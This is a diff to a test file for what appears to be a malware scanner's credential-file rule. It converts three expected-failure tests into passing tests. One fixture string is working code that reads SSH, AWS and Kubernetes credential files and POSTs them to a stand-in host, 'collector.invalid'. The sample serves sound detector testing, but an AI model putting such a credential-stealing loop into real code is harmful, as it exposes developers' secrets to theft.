@@ -80,14 +80,12 @@ describe('credential-files reports', () => {
     expect(r.verdict).toBe('malicious');
   });
 
-  // Known gap: Evaluator.memberValue calls canon() on the node value() is already visiting, so process.env.HOME folds to a hole.
-  test.fails('`${process.env.HOME}/.npmrc` resolves to ~/.npmrc', () => {
+  test('`${process.env.HOME}/.npmrc` resolves to ~/.npmrc', () => {
     const r = scanFiles({ 'index.js': "const fs = require('fs');\nmodule.exports = () => fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');" });
     expect(r.of(RULE)).toContainEqual(finding('medium', ['source:credential-file'], { message: expect.stringContaining('~/.npmrc') }));
   });
 
-  // Known gap: a for-of loop variable over a constant target list does not fold, and bare mentions stay medium, so the loot loop scores clean.
-  test.fails('a loop over credential targets that reads and posts them is malicious', () => {
+  test('a loop over credential targets that reads and posts them is malicious', () => {
     const r = scanFiles({
       'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst targets = ['.ssh/id_rsa', '.aws/credentials', '.kube/config'];\nconst loot = {};\nfor (const t of targets) { const p = path.join(os.homedir(), t); if (fs.existsSync(p)) loot[t] = fs.readFileSync(p, 'utf8'); }\nrequire('https').request({ hostname: 'collector.invalid', method: 'POST' }).end(JSON.stringify(loot));",
     });
@@ -105,8 +103,7 @@ describe('credential-files stays quiet', () => {
     expect(r.verdict).toBe('clean');
   });
 
-  // Known gap: a project .env in process.cwd() is reported at medium (twice: existsSync and readFileSync), like a home-folder secret.
-  test.fails('a dotenv-like loader reading .env in the working directory stays at most low', () => {
+  test('a dotenv-like loader reading .env in the working directory stays at most low', () => {
     const r = scanFiles(dotenvLike);
     expectAtMostLow(r.of(RULE));
   });
